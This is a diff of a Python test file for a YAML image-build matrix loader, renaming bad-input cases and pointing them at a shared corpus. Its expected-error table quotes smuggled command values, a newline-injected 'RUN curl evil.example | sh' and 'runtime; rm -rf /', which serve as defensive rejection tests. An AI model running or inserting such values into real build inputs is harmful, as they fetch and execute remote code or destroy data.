@@ -1,6 +1,7 @@
 """matrix.yaml loading: typed values from good files, `file:LINE: field: message` for bad ones.
 
-Each bad matrix under tests/matrices/bad/ is one mistake; the table below pins the line and
+Each bad matrix in the table below is one mistake of the bad-input corpus (tests/corpus/matrices,
+which tests/integration/test_corpus.py runs through the real CLI); the table pins the line and
 field the error must name. Mistakes that cannot sit in a small text file (non-UTF-8 bytes, a
 huge file, an alias bomb) are generated in tmp_path.
 """
@@ -21,7 +22,7 @@ from accel_images.matrix import Matrix, User, load_matrix, parse_matrix
 
 REPO = Path(__file__).resolve().parents[2]
 MATRICES = Path(__file__).resolve().parents[1] / "matrices"
-BAD = MATRICES / "bad"
+BAD = Path(__file__).resolve().parents[1] / "corpus" / "matrices"
 
 GOOD_HEAD = 'schema: 1\nimage: accel-images/pytorch\nvendors:\n  cpu:\n'
 GOOD_GROUP = '    - torch: ["2.14"]\n      python: ["3.11"]\n      os: [debian12]\n      flavor: [runtime]\n'
@@ -79,27 +80,27 @@ def test_experimental_python_flag_is_read() -> None:
 
 BAD_CASES = [
     # file, line, field (None: the error is about the file or a whole group), message fragment
-    ("invalid-yaml.yaml", 6, None, "invalid YAML: mapping values are not allowed"),
+    ("broken-yaml.yaml", 6, None, "invalid YAML: mapping values are not allowed"),
     ("tabs.yaml", 5, None, "'\\t'"),
     ("duplicate-key.yaml", 7, "vendors.cpu[0].torch", "duplicate key 'torch' (first at line 5)"),
-    ("unknown-top-field.yaml", 3, "vendor", "unknown field 'vendor'"),
+    ("unknown-top-field.yaml", 3, "registry", "unknown field 'registry'"),
     ("unknown-group-field.yaml", 6, "vendors.cpu[0].pythons", "unknown field 'pythons'"),
     ("wrong-type-axis.yaml", 6, "vendors.cpu[0].python", "quoted string"),
     ("wrong-type-schema.yaml", 2, "schema", "must be an int"),
     ("wrong-type-vendors.yaml", 3, "vendors", "must map at least one vendor"),
     ("float-version.yaml", 5, "vendors.cuda[0].stack", '12.10 is a YAML number, not a string: quote it ("12.10")'),
-    ("int-version.yaml", 10, "vendors.cuda[1].stack[0]", '13 is a YAML number, not a string: quote it ("13")'),
-    ("unknown-vendor.yaml", 9, "vendors.tpu", "unknown vendor 'tpu'"),
+    ("int-version-second-group.yaml", 10, "vendors.cuda[1].stack[0]", '13 is a YAML number, not a string: quote it ("13")'),
+    ("unknown-vendor.yaml", 6, "vendors.tpu", "unknown vendor 'tpu'"),
     ("empty.yaml", 1, None, "the file is empty"),
     ("comments-only.yaml", 1, None, "the file is empty"),
     ("empty-vendors.yaml", 3, "vendors", "must map at least one vendor"),
-    ("whitespace-value.yaml", 6, "vendors.cpu[0].python[1]", "'3.12 ' is not a version"),
+    ("space-value.yaml", 6, "vendors.cpu[0].python[1]", "'3.12 ' is not a version"),
     ("newline-value.yaml", 7, "vendors.cpu[0].os[0]", "'debian12\\nRUN curl evil.example | sh' is not"),
-    ("shell-value.yaml", 8, "vendors.cpu[0].flavor[0]", "'runtime; rm -rf /' is not"),
-    ("shell-image.yaml", 2, "image", "is not a repository name"),
+    ("semicolon-value.yaml", 8, "vendors.cpu[0].flavor[0]", "'runtime; rm -rf /' is not"),
+    ("command-substitution-image.yaml", 2, "image", "is not a repository name"),
     ("cpu-with-stack.yaml", 5, "vendors.cpu[0].stack", "cpu images have no stack"),
     ("missing-axis.yaml", 5, "vendors.cuda[0]", "'python' is required"),
-    ("root-user.yaml", 5, "user.uid", "0 would be root"),
+    ("root-uid.yaml", 5, "user.uid", "0 would be root"),
 ]
 
 
@@ -115,9 +116,13 @@ def test_bad_matrix_names_file_line_and_field(name: str, line: int, field: str |
     assert "\n" not in shown
 
 
-def test_every_bad_file_is_in_the_table() -> None:
-    expected = {c[0] for c in BAD_CASES} | {"explicit-impossible.yaml"}  # loads; fails at expansion
-    assert sorted(p.name for p in BAD.glob("*.yaml")) == sorted(expected)
+EXPANSION_CASE = "explicit-impossible-second-group.yaml"  # loads; fails at expansion
+
+
+def test_every_file_of_the_table_is_in_the_corpus() -> None:
+    expected = {c[0] for c in BAD_CASES} | {EXPANSION_CASE}
+    assert sorted(expected - {p.name for p in BAD.glob("*.yaml")}) == []
+    assert len(expected) == len(BAD_CASES) + 1, "a file named twice in the table"
 
 
 def test_float_version_message_explains_the_quoting() -> None:
@@ -128,7 +133,7 @@ def test_float_version_message_explains_the_quoting() -> None:
 def test_explicit_impossible_group_is_an_error_at_the_group_line() -> None:
     from accel_images.compat import load_kb
     from accel_images.variant import expand
-    matrix = load_matrix(BAD / "explicit-impossible.yaml")
+    matrix = load_matrix(BAD / EXPANSION_CASE)
     with pytest.raises(InputError) as caught:
         expand(matrix, load_kb())
     assert caught.value.line == 11
@@ -268,7 +273,7 @@ def test_arbitrary_yaml_punctuation_gives_a_matrix_or_an_input_error(text: str) 
 
 # -- through the CLI: exit 2, one line, no traceback, nothing written ------------------------
 
-BAD_FILES = sorted(p.name for p in BAD.glob("*.yaml"))
+BAD_FILES = sorted({c[0] for c in BAD_CASES} | {EXPANSION_CASE})
 
 
 @pytest.mark.parametrize("name", BAD_FILES)
